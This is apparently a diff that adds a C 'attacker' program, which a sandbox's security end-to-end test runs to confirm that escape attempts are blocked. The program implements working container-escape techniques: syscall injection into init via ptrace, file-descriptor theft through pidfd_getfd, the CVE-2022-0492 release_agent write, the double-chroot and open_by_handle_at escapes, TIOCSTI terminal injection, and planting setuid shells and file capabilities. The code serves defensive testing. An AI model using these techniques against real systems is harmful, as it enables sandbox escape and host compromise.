@@ -1,0 +1,447 @@
+/* The attacker: one program with a subcommand per attack, run INSIDE a
+ * branch by tests/security/security_e2e_test.cpp (the base is the host's /,
+ * so the built binary is visible at its host path). Each attempt prints one
+ * line:
+ *   BLOCKED <what> <errno name>     the kernel or the sandbox refused it
+ *   ESCAPED <what> <detail>         the attack got what it wanted
+ *   INFO <what> <detail>            anything else worth seeing in a failure
+ * The test asserts on these lines and, independently, on the host (dmesg,
+ * canary files, the daemon's binary, the state dir). Plain C and raw
+ * syscalls, so nothing here depends on what the sandbox's libc allows. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/capability.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+static void blocked(const char* what, int err) { printf("BLOCKED %s %s\n", what, strerrorname_np(err)); }
+static void escaped(const char* what, const char* detail) { printf("ESCAPED %s %s\n", what, detail); }
+
+/* rc < 0: blocked with errno; else escaped. */
+static void verdict(const char* what, long rc) {
+  if (rc < 0) {
+    blocked(what, errno);
+  } else {
+    char d[32];
+    snprintf(d, sizeof d, "rc=%ld", rc);
+    escaped(what, d);
+  }
+}
+
+static double now_s(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+/* ---- escape 1: ptrace the sandbox's init and make it mknod for us ------ */
+
+static int poke_string(pid_t pid, unsigned long addr, const char* s) {
+  size_t n = strlen(s) + 1;
+  for (size_t off = 0; off < n; off += sizeof(long)) {
+    long word = 0;
+    memcpy(&word, s + off, n - off < sizeof(long) ? n - off : sizeof(long));
+    if (ptrace(PTRACE_POKEDATA, pid, (void*)(addr + off), (void*)word) != 0) return -1;
+  }
+  return 0;
+}
+
+/* Injects one syscall into a seized, stopped tracee at its current syscall
+ * instruction (init sits in rt_sigtimedwait: rip - 2 is `syscall`). */
+static long inject_syscall(pid_t pid, const struct user_regs_struct* saved, long nr, long a, long b, long c,
+                           long d) {
+  struct user_regs_struct r = *saved;
+  r.rax = (unsigned long)nr;
+  r.orig_rax = (unsigned long)-1; /* no syscall-restart fixups on resume */
+  r.rdi = (unsigned long)a;
+  r.rsi = (unsigned long)b;
+  r.rdx = (unsigned long)c;
+  r.r10 = (unsigned long)d;
+  r.rip = saved->rip - 2;
+  if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) return -1000;
+  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) return -1001;
+  int st;
+  if (waitpid(pid, &st, __WALL) != pid) return -1002;
+  if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -1003;
+  return (long)r.rax;
+}
+
+static int cmd_ptrace_init(const char* node) {
+  pid_t pid = 1;
+  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
+    blocked("ptrace-seize-init", errno);
+  } else {
+    escaped("ptrace-seize-init", "attached");
+    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
+      int st;
+      waitpid(pid, &st, __WALL);
+      struct user_regs_struct saved;
+      if (ptrace(PTRACE_GETREGS, pid, 0, &saved) == 0) {
+        unsigned long addr = (saved.rsp - 4096) & ~15UL;
+        if (poke_string(pid, addr, node) == 0) {
+          long rc = inject_syscall(pid, &saved, SYS_mknodat, AT_FDCWD, (long)addr, S_IFCHR | 0666,
+                                   (long)makedev(1, 11));
+          printf("INFO injected-mknod rc=%ld\n", rc);
+          if (rc == 0) escaped("init-mknod", node);
+          else printf("BLOCKED init-mknod %s\n", strerrorname_np((int)-rc) ? strerrorname_np((int)-rc) : "?");
+        }
+        ptrace(PTRACE_SETREGS, pid, 0, &saved);
+      }
+      ptrace(PTRACE_DETACH, pid, 0, 0);
+    }
+  }
+  /* Whatever node exists now (made by init or by any other means): use it. */
+  int fd = open(node, O_WRONLY | O_CLOEXEC);
+  if (fd < 0) {
+    blocked("open-injected-node", errno);
+  } else {
+    char msg[128];
+    int n = snprintf(msg, sizeof msg, "<0>%s\n", getenv("ATTACK_MARKER") ? getenv("ATTACK_MARKER") : "specula-attack");
+    long w = write(fd, msg, (size_t)n);
+    verdict("write-injected-node", w);
+    close(fd);
+  }
+  return 0;
+}
+
+/* ---- escapes 2 and 3: fds and /proc/<pid>/exe of processes entering --- */
+
+struct target {
+  dev_t exe_dev;
+  ino_t exe_ino;
+};
+
+static void try_steal(pid_t p, const struct target* t, long* stolen, long* exes) {
+  int pidfd = (int)syscall(SYS_pidfd_open, p, 0);
+  if (pidfd >= 0) {
+    for (int fd = 3; fd < 64; ++fd) {
+      int nfd = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+      if (nfd < 0) continue;
+      char path[64], link[512];
+      snprintf(path, sizeof path, "/proc/self/fd/%d", nfd);
+      ssize_t n = readlink(path, link, sizeof link - 1);
+      link[n > 0 ? n : 0] = 0;
+      struct stat st;
+      fstat(nfd, &st);
+      printf("STOLEN pid=%d fd=%d link=%s mode=%o\n", p, fd, link, st.st_mode);
+      ++*stolen;
+      close(nfd);
+    }
+    close(pidfd);
+  }
+  char exe[64];
+  snprintf(exe, sizeof exe, "/proc/%d/exe", p);
+  int efd = open(exe, O_RDONLY | O_CLOEXEC);
+  if (efd >= 0) {
+    struct stat st;
+    if (fstat(efd, &st) == 0 && st.st_dev == t->exe_dev && st.st_ino == t->exe_ino) {
+      printf("EXE pid=%d is the runtime's binary\n", p);
+      ++*exes;
+    }
+    close(efd);
+  }
+}
+
+/* Spins on the pids about to be born (pids in a pid namespace are handed
+ * out in order) and on every pid in /proc, trying to grab fds and the exe
+ * of each process before it has exec'd. */
+static int cmd_steal(const char* seconds, const char* runtime_binary) {
+  struct target t = {0, 0};
+  struct stat rb;
+  /* The runtime's binary as the sandbox sees it (same file on the host's
+   * root via the overlay's lower layer: same st_ino, maybe another st_dev),
+   * so compare the inode of the path given and count matches by inode. */
+  if (runtime_binary && stat(runtime_binary, &rb) == 0) {
+    t.exe_ino = rb.st_ino;
+    t.exe_dev = rb.st_dev;
+  }
+  double end = now_s() + atof(seconds);
+  long stolen = 0, exes = 0, loops = 0;
+  pid_t max_seen = getpid();
+  while (now_s() < end) {
+    ++loops;
+    for (pid_t p = max_seen + 1; p <= max_seen + 6; ++p) {
+      if (kill(p, 0) == 0 || errno == EPERM) {
+        try_steal(p, &t, &stolen, &exes);
+        if (p > max_seen) max_seen = p;
+      }
+    }
+    if (loops % 64 == 0) {
+      DIR* d = opendir("/proc");
+      if (d) {
+        struct dirent* e;
+        while ((e = readdir(d)) != NULL) {
+          pid_t p = (pid_t)atoi(e->d_name);
+          if (p <= 1 || p == getpid()) continue;
+          if (p > max_seen) max_seen = p;
+          try_steal(p, &t, &stolen, &exes);
+        }
+        closedir(d);
+      }
+    }
+  }
+  printf("INFO steal loops=%ld stolen=%ld exes=%ld max_pid=%d\n", loops, stolen, exes, max_seen);
+  fflush(stdout);
+  return 0;
+}
+
+/* ---- devices ------------------------------------------------------------ */
+
+static int cmd_mknod(const char* dir) {
+  char c[256], b[256];
+  snprintf(c, sizeof c, "%s/attack-kmsg", dir);
+  snprintf(b, sizeof b, "%s/attack-loop0", dir);
+  verdict("mknod-char-kmsg", mknod(c, S_IFCHR | 0666, makedev(1, 11)));
+  verdict("mknod-block-loop0", mknod(b, S_IFBLK | 0666, makedev(7, 0)));
+  verdict("mknodat-char-mem", syscall(SYS_mknodat, AT_FDCWD, c, S_IFCHR | 0666, makedev(1, 1)));
+  return 0;
+}
+
+/* Opens a device node that exists by any means (made on the host, left in
+ * a layer, bind-mounted) and uses it. */
+static int cmd_open_dev(const char* path) {
+  int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
+  if (fd < 0) {
+    blocked("open-device", errno);
+    return 0;
+  }
+  char buf[64];
+  long r = read(fd, buf, sizeof buf);
+  const char* m = getenv("ATTACK_MARKER");
+  char msg[128];
+  int n = snprintf(msg, sizeof msg, "<0>%s\n", m ? m : "specula-attack");
+  long w = write(fd, msg, (size_t)n);
+  if (r < 0 && w < 0) blocked("use-device", errno);
+  else escaped("use-device", path);
+  close(fd);
+  return 0;
+}
+
+/* ---- mounts, namespaces, cgroups --------------------------------------- */
+
+static int cmd_mount(void) {
+  mkdir("/tmp/attack-mnt", 0700);
+  verdict("mount-tmpfs", mount("none", "/tmp/attack-mnt", "tmpfs", 0, NULL));
+  verdict("mount-proc", mount("proc", "/tmp/attack-mnt", "proc", 0, NULL));
+  verdict("mount-cgroup2", mount("none", "/tmp/attack-mnt", "cgroup2", 0, NULL));
+  verdict("mount-bind-root", mount("/", "/tmp/attack-mnt", NULL, MS_BIND | MS_REC, NULL));
+  verdict("remount-root-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
+  verdict("umount-proc", umount2("/proc", MNT_DETACH));
+  verdict("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
+  verdict("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
+  verdict("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/attack-mnt"));
+  return 0;
+}
+
+static int cmd_unshare(void) {
+  verdict("unshare-user", unshare(CLONE_NEWUSER));
+  verdict("unshare-mount", unshare(CLONE_NEWNS));
+  verdict("unshare-user-mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
+  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
+  if (pid == 0) _exit(0);
+  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
+  verdict("clone-newuser", pid);
+  int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
+  if (fd >= 0) {
+    verdict("setns-init-mnt", setns(fd, CLONE_NEWNS));
+    close(fd);
+  }
+  return 0;
+}
+
+/* CVE-2022-0492: a v1 cgroup's release_agent runs as host root. */
+static int cmd_release_agent(void) {
+  mkdir("/tmp/attack-cg", 0700);
+  long rc = mount("cgroup", "/tmp/attack-cg", "cgroup", 0, "memory");
+  if (rc != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
+    rc = mount("cgroup", "/tmp/attack-cg", "cgroup", 0, "memory");
+  }
+  if (rc != 0) {
+    blocked("mount-cgroup-v1", errno);
+  } else {
+    int fd = open("/tmp/attack-cg/release_agent", O_WRONLY);
+    long w = fd >= 0 ? write(fd, "/tmp/x", 6) : -1;
+    verdict("write-release_agent", w);
+  }
+  /* The host's cgroupfs as the sandbox might see it. */
+  int fd = open("/sys/fs/cgroup/memory/release_agent", O_WRONLY);
+  verdict("open-host-release_agent", fd);
+  return 0;
+}
+
+/* CVE-2017-5226 class: push input into the controlling terminal. */
+static int cmd_tiocsti(void) {
+  char c = 'x';
+  int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
+  if (fd >= 0) verdict("tiocsti-tty", ioctl(fd, TIOCSTI, &c));
+  else blocked("open-dev-tty", errno);
+  int m = posix_openpt(O_RDWR | O_NOCTTY);
+  if (m >= 0 && grantpt(m) == 0 && unlockpt(m) == 0) {
+    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
+    if (s >= 0) verdict("tiocsti-pts", ioctl(s, TIOCSTI, &c));
+    verdict("tioclinux-pts", ioctl(s >= 0 ? s : m, TIOCLINUX, &c));
+  }
+  return 0;
+}
+
+static int cmd_proc_mem(void) {
+  int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
+  verdict("open-init-mem", fd);
+  char buf[8] = {0};
+  struct iovec local = {buf, sizeof buf}, remote = {(void*)0x400000, sizeof buf};
+  verdict("process_vm_readv-init", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
+  verdict("process_vm_writev-init", syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0));
+  int env = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
+  verdict("open-init-environ", env);
+  int pfd = (int)syscall(SYS_pidfd_open, 1, 0);
+  if (pfd >= 0) verdict("pidfd_getfd-init", syscall(SYS_pidfd_getfd, pfd, 0, 0));
+  return 0;
+}
+
+/* The classic double-chroot escape, then look for what must be invisible. */
+static int cmd_chroot_escape(int argc, char** argv) {
+  mkdir("/tmp/attack-jail", 0700);
+  int keep = open("/", O_RDONLY | O_DIRECTORY);
+  if (chroot("/tmp/attack-jail") != 0) {
+    blocked("chroot", errno);
+  } else {
+    if (fchdir(keep) == 0) {
+      for (int i = 0; i < 64; ++i) (void)chdir("..");
+      (void)chroot(".");
+    }
+  }
+  for (int i = 0; i < argc; ++i) {
+    struct stat st;
+    if (stat(argv[i], &st) == 0) escaped("sees", argv[i]);
+    else blocked(argv[i], errno);
+  }
+  return 0;
+}
+
+static int cmd_open_by_handle(void) {
+  struct {
+    unsigned int handle_bytes;
+    int handle_type;
+    unsigned char f_handle[8];
+  } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}}; /* shocker: inode 2, the fs root */
+  verdict("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY));
+  verdict("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &(int){0}, 0));
+  return 0;
+}
+
+static int cmd_kernel(void) {
+  verdict("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0, 0, 0));
+  verdict("bpf", syscall(SYS_bpf, 0, NULL, 0));
+  verdict("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
+  verdict("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
+  verdict("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
+  verdict("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
+  verdict("init_module", syscall(SYS_init_module, NULL, 0, ""));
+  verdict("finit_module", syscall(SYS_finit_module, -1, "", 0));
+  verdict("delete_module", syscall(SYS_delete_module, "loop", 0));
+  verdict("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc /* CAD_OFF */, NULL));
+  verdict("swapon", syscall(SYS_swapon, "/tmp/none", 0));
+  struct timespec ts = {1, 0};
+  verdict("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &ts));
+  verdict("acct", syscall(SYS_acct, NULL));
+  verdict("syslog-clear", syscall(SYS_syslog, 5 /* CLEAR */, NULL, 0));
+  verdict("iopl", syscall(SYS_iopl, 3));
+  verdict("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
+  return 0;
+}
+
+/* Unix socket of a host daemon at a path the overlay shows. */
+static int cmd_connect(const char* path) {
+  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  struct sockaddr_un a = {.sun_family = AF_UNIX};
+  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
+  long rc = connect(s, (struct sockaddr*)&a, sizeof a);
+  if (rc == 0) {
+    const char* req = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"daemon.ping\"}\n";
+    (void)!write(s, req, strlen(req));
+    char buf[256] = {0};
+    long n = read(s, buf, sizeof buf - 1);
+    printf("INFO connect-reply %ld %s\n", n, buf);
+  }
+  verdict("connect-daemon-socket", rc);
+  return 0;
+}
+
+/* Files a promote must not carry to the host as they are. */
+static int cmd_plant(const char* dir) {
+  char p[512];
+  snprintf(p, sizeof p, "%s/suid-sh", dir);
+  int in = open("/bin/sh", O_RDONLY), out = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+  char buf[65536];
+  ssize_t n;
+  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) (void)!write(out, buf, (size_t)n);
+  close(in);
+  close(out);
+  verdict("chmod-suid", chmod(p, 04755));
+  snprintf(p, sizeof p, "%s/fcap-file", dir);
+  close(open(p, O_WRONLY | O_CREAT, 0755));
+  /* vfs_cap_data v2: CAP_SETUID (7) permitted+effective */
+  struct {
+    uint32_t magic_etc;
+    struct {
+      uint32_t permitted, inheritable;
+    } data[2];
+  } cap = {0x02000000 | 1 /* VFS_CAP_REVISION_2 | EFFECTIVE */, {{1u << 7, 0}, {0, 0}}};
+  verdict("set-file-capability", setxattr(p, "security.capability", &cap, sizeof cap, 0));
+  verdict("set-trusted-xattr", setxattr(p, "trusted.overlay.opaque", "y", 1, 0));
+  verdict("set-user-xattr", setxattr(p, "user.note", "hi", 2, 0));
+  snprintf(p, sizeof p, "%s/fifo", dir);
+  verdict("mkfifo", mknod(p, S_IFIFO | 0600, 0));
+  snprintf(p, sizeof p, "%s/sock", dir);
+  int s = socket(AF_UNIX, SOCK_STREAM, 0);
+  struct sockaddr_un a = {.sun_family = AF_UNIX};
+  strncpy(a.sun_path, p, sizeof a.sun_path - 1);
+  verdict("bind-unix-socket", bind(s, (struct sockaddr*)&a, sizeof a));
+  return 0;
+}
+
+int main(int argc, char** argv) {
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  if (argc < 2) {
+    fprintf(stderr, "usage: attack <subcommand> [args]\n");
+    return 2;
+  }
+  const char* c = argv[1];
+  if (!strcmp(c, "ptrace-init") && argc > 2) return cmd_ptrace_init(argv[2]);
+  if (!strcmp(c, "steal") && argc > 2) return cmd_steal(argv[2], argc > 3 ? argv[3] : NULL);
+  if (!strcmp(c, "mknod") && argc > 2) return cmd_mknod(argv[2]);
+  if (!strcmp(c, "open-dev") && argc > 2) return cmd_open_dev(argv[2]);
+  if (!strcmp(c, "mount")) return cmd_mount();
+  if (!strcmp(c, "unshare")) return cmd_unshare();
+  if (!strcmp(c, "release-agent")) return cmd_release_agent();
+  if (!strcmp(c, "tiocsti")) return cmd_tiocsti();
+  if (!strcmp(c, "proc-mem")) return cmd_proc_mem();
+  if (!strcmp(c, "chroot-escape")) return cmd_chroot_escape(argc - 2, argv + 2);
+  if (!strcmp(c, "open-by-handle")) return cmd_open_by_handle();
+  if (!strcmp(c, "kernel")) return cmd_kernel();
+  if (!strcmp(c, "connect") && argc > 2) return cmd_connect(argv[2]);
+  if (!strcmp(c, "plant") && argc > 2) return cmd_plant(argv[2]);
+  fprintf(stderr, "attack: unknown subcommand %s\n", c);
+  return 2;
+}
